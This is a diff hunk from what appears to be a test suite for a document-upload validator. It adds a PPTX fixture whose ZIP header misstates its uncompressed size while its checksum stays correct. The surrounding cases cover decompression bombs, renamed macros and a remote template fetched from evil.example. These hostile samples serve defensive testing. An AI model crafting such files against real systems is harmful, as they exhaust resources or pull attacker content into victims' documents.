@@ -83,6 +83,9 @@ REFUSED = {
     "F04 too large": (PDF + bytes(21 << 20), "a.pdf", "超过 20 MB"),
     "F05 unpacks without end": (boaster(), "a.docx", "大得不正常"),
     "F05 lies about it": (liar(), "a.pptx", "内容却不是"),
+    "F05 lies, its sum is right": (
+        zipped({"ppt/a.xml": bytes(1 << 20)}).replace(struct.pack("<I", 1 << 20), struct.pack("<I", 100)), "a.pptx", "内容却不是",
+    ),
     "F05 too many parts": (zipped({f"xl/{n}": b"" for n in range(4100)}), "a.xlsx", "大得不正常"),
     "F06 macros renamed": (word(word__vbaProject_bin=b"x"), "a.docx", "宏"),
     "F06 a template from the net": (word(**{SETTINGS: TEMPLATE % b"https://evil.example/t.dotm"}), "a.docx", "到别处取东西"),
